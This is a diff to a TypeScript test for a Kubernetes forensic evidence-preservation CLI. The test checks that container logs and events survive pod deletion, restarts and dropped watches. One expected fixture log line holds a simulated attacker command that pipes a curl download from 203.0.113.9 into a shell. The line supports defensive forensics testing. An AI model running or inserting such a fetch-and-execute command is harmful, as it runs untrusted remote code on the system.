@@ -10,7 +10,10 @@ import { PassThrough } from 'node:stream';
 import type { CliIo, InterruptSignal, Interrupts } from '../../shared/cli/io.js';
 import { runCli } from '../../shared/cli/main.js';
 import { readCustodyLog } from '../../shared/evidence/custody.js';
+import { readIncrementManifest, type IncrementManifest } from '../../shared/evidence/increment.js';
 import { openLocalBundleAt } from '../../shared/evidence/localStore.js';
+import { readNdjson } from '../../shared/evidence/ndjson.js';
+import type { EvidenceStore } from '../../shared/evidence/types.js';
 import type { FixtureCluster } from '../../shared/simulator/kube/scenario.js';
 import { startFixtureCluster } from '../../shared/simulator/kube/server.js';
 import { preservationScenario } from './scenario.js';
@@ -49,6 +52,14 @@ function captureIo(cwd: string, interrupts?: Interrupts) {
   return { io, out: () => o, err: () => e, stderrShows: (re: RegExp) => new Promise<void>((resolve) => (re.test(e) ? resolve() : waits.push({ re, resolve }))) };
 }
 
+async function rowsOf(store: EvidenceStore, m: IncrementManifest, file: string): Promise<Record<string, unknown>[]> {
+  const a = m.artifacts.find((x) => x.path.endsWith(file));
+  if (!a) return [];
+  const out: Record<string, unknown>[] = [];
+  for await (const r of readNdjson(store, a.path)) out.push(r as Record<string, unknown>);
+  return out;
+}
+
 let cluster: FixtureCluster;
 let dir: string;
 let kubeconfig: string;
@@ -68,23 +79,45 @@ afterAll(async () => {
 describe('aks-evidence collect --preserve and watch', () => {
   let bundle: string;
 
-  test('collect --preserve: sealed, then preserving until Ctrl-C, which seals the last segment and ends the window (exit 0)', async () => {
+  test('collect --preserve: the done-when scenario through the CLI; Ctrl-C seals the last segment and ends the window (exit 0)', async () => {
     const interrupts = new TestInterrupts();
     const c = captureIo(dir, interrupts);
-    const exit = runCli(['collect', '--kubeconfig', kubeconfig, '--out', join(dir, 'out'), '--sources', 'containerlogs,events', '--case', 'INC-7', '--preserve', '24h', '--segment', '1h', '--json'], c.io);
-    await c.stderrShows(/preserving run \w+ until/);
+    const exit = runCli(['collect', '--kubeconfig', kubeconfig, '--out', join(dir, 'out'), '--sources', 'containerlogs,events', '--case', 'INC-7', '--preserve', '24h', '--segment', '1h', '--verbose', '--json'], c.io);
+    await c.stderrShows(/watching 14 resource\(s\)/);
+    // Right after the watches are up (the "two seconds in" of the issue; no clock is asserted on).
     cluster.changes.deletePod('shop', 'web', { graceMs: 600_000 });
     await c.stderrShows(/kept 2 log line\(s\) of shop\/web \(app\): terminating/);
-    cluster.changes.emitEvent({ namespace: 'shop', involvedObject: { kind: 'Pod', name: 'worker' }, reason: 'Exec', message: 'kubectl exec by attacker', type: 'Warning' });
+    await c.stderrShows(/kept 2 log line\(s\) of shop\/web \(app, previous\): terminating/);
+    cluster.changes.restartContainer('shop', 'worker', 'main', { exitCode: 137, reason: 'OOMKilled', newLines: [{ message: 'worker instance 1 started' }] });
+    await c.stderrShows(/kept 2 log line\(s\) of shop\/worker \(main, previous\): restarted/);
+    const emitted: string[] = [];
+    for (let i = 1; i <= 3; i++) emitted.push(cluster.changes.emitEvent({ namespace: 'shop', involvedObject: { kind: 'Pod', name: 'worker' }, reason: `Before${i}`, message: `event ${i} before the drop` }).metadata.name);
+    await c.stderrShows(new RegExp(`events added: shop/${emitted[2]!.replace(/\./g, '\\.')}`));
+    // The connections drop; what happens while nobody watches arrives when the watches resume.
+    expect(cluster.watches.drop()).toBeGreaterThan(5);
+    for (let i = 1; i <= 4; i++) emitted.push(cluster.changes.emitEvent({ namespace: 'shop', involvedObject: { kind: 'Pod', name: 'worker' }, reason: `After${i}`, message: `event ${i} while the watch was down`, type: 'Warning' }).metadata.name);
+    await c.stderrShows(new RegExp(`events added: shop/${emitted[6]!.replace(/\./g, '\\.')}`));
     interrupts.send('SIGINT');
     expect(await exit).toBe(0);
-    const summary = JSON.parse(c.out()) as { bundle: string; runId: string; preservation: { ended: { reason: string }; segments: { seq: number; counts: { logLines: number } }[] } };
+    expect(c.err()).toMatch(/stopped \(Ctrl-C\): sealing the segment in progress/);
+    expect(c.err()).toMatch(/segment 1 sealed \(.+\): \d+ log lines/);
+    const summary = JSON.parse(c.out()) as { bundle: string; runId: string; exitCode: number; preservation: { ended: { reason: string }; segments: { seq: number; gaps: number; counts: { logLines: number } }[] } };
     expect(summary.preservation.ended).toEqual({ reason: 'stopped (Ctrl-C)' });
-    expect(summary.preservation.segments).toHaveLength(1);
-    expect(summary.preservation.segments[0]!.counts.logLines).toBeGreaterThanOrEqual(4);
+    expect(summary.preservation.segments.map((x) => [x.seq, x.gaps])).toEqual([[1, 0]]);
     bundle = join(dir, 'out', summary.runId);
+
+    const store = await openLocalBundleAt(bundle);
+    const { manifest } = await readIncrementManifest(store, 1);
+    const logRows = await rowsOf(store, manifest, 'containerlogs.rows.ndjson.gz');
+    const web = logRows.filter((r) => r['pod_name'] === 'web');
+    expect(web.filter((r) => r['previous'] === false).map((r) => r['message'])).toEqual(['web v1 serving', 'GET /admin 200 from 203.0.113.9']);
+    expect(web.filter((r) => r['previous'] === true).map((r) => r['message'])).toEqual(['web v1 starting (previous instance)', 'panic: the previous instance crashed']);
+    const worker = logRows.filter((r) => r['pod_name'] === 'worker');
+    expect(worker.filter((r) => r['previous'] === true).map((r) => r['message'])).toEqual(['worker instance 0 line 1', 'worker instance 0: curl http://203.0.113.9/x | sh']);
+    const eventNames = (await rowsOf(store, manifest, 'events.rows.ndjson.gz')).map((r) => r['name'] as string);
+    for (const name of emitted) expect(eventNames.filter((n) => n === name)).toHaveLength(1);
     cluster.changes.deletePod('shop', 'web');
-  }, 60_000);
+  }, 90_000);
 
   test('watch <bundle>: another window on the sealed run, to its end; verify covers both windows', async () => {
     const c = captureIo(dir);
@@ -112,6 +145,12 @@ describe('aks-evidence collect --preserve and watch', () => {
     await writeFile(other, cluster.kubeconfigYaml.replace(cluster.server, 'https://127.0.0.1:1'));
     const e = captureIo(dir);
     expect(await runCli(['watch', bundle, '--kubeconfig', other], e.io)).toBe(2);
-    expect(e.err()).toMatch(/--context: the kubeconfig points at https:\/\/127\.0\.0\.1:1, but run \w+ was collected from/);
+    expect(e.err()).toMatch(/--context: the kubeconfig points at https:\/\/127\.0\.0\.1:1\/?, but run [\w-]+ was collected from/);
+    const f = captureIo(dir);
+    expect(await runCli(['collect', '--kubeconfig', kubeconfig, '--out', join(dir, 'out3'), '--preserve', '1h', '--concurrency', '8'], f.io)).toBe(2);
+    expect(f.err()).toMatch(/--concurrency: .*14 watch streams each hold one request of the budget.*from 15 to 256/);
+    const g = captureIo(dir);
+    expect(await runCli(['watch', bundle, '--kubeconfig', kubeconfig, '--concurrency', '14'], g.io)).toBe(2);
+    expect(g.err()).toMatch(/--concurrency: "14" is too small/);
   });
 });
